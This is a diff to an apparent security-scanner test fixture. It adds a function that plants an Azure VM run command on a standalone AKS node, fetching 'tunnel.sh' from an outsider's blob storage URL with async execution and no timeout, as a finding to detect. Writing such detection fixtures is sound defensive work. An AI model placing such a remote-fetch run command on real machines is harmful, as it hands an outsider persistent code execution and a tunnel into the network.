@@ -76,6 +76,19 @@ def extension_on_a_machine_that_stands_alone(estate: Estate) -> Named:
     return machine
 
 
+@plant("vmss-extensions", "high", also=("vm-pivot",), spot="effective-rules")
+def run_command_kept_at_a_machine_that_stands_alone(estate: Estate) -> Named:
+    """A node that is no instance of a scale set has a run command that its agent has not reported yet.
+
+    Azure/azure-rest-api-specs, Compute 2025-04-01, VirtualMachineRunCommands_ListByVirtualMachine.
+    """
+    nic = f"{estate.site.node_group}/providers/Microsoft.Network/networkInterfaces/aks-alone-0"
+    machine = add_machine(estate, "aks-alone-0", nic, estate.site.gpu_subnet, "10.40.1.210")
+    source = {"scriptUri": "https://ststranger.blob.core.windows.net/x/tunnel.sh"}
+    estate.add(f"{machine}/runCommands/tunnel", {"source": source, "asyncExecution": True, "timeoutInSeconds": 0})
+    return machine
+
+
 @plant("vmss-extensions", "high", spot="extension")
 def extension_of_another_publisher(estate: Estate) -> Named:
     """Every GPU node runs code of a stranger's, as root."""
